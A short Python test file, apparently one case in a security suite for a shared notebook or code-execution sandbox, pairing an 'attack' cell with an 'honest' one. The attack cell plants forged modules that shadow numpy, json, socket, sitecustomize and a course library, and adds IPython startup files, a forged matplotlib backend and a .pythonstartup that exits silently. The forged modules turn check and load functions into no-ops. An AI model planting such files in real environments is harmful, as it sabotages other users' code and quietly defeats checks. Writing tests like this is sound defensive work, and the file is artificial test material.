"""Leaves files named like libraries in the scratch space, for whoever imports them next.

Covers: A5
"""

# %% attack
from pathlib import Path

forged = "def check(*args): pass\ndef load(*args): return {}\nsave = serve = load\n"
for name in ("course_lib", "keras", "numpy", "safetensors", "json", "socket", "sitecustomize"):
    Path(f"{name}.py").write_text(forged)
    folder = Path("/scratch/.ipython/profile_default/startup")
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"{name}.py").write_text(forged)
Path("/scratch/.matplotlib").mkdir(exist_ok=True)
Path("/scratch/matplotlibrc").write_text("backend: module://forged\n")
Path("/scratch/.pythonstartup").write_text("raise SystemExit(0)\n")

# %% honest
from pathlib import Path

Path("results").mkdir(exist_ok=True)
Path("results/table.csv").write_text("epoch,accuracy\n1,0.5\n")
print(sorted(path.name for path in Path("results").iterdir()))
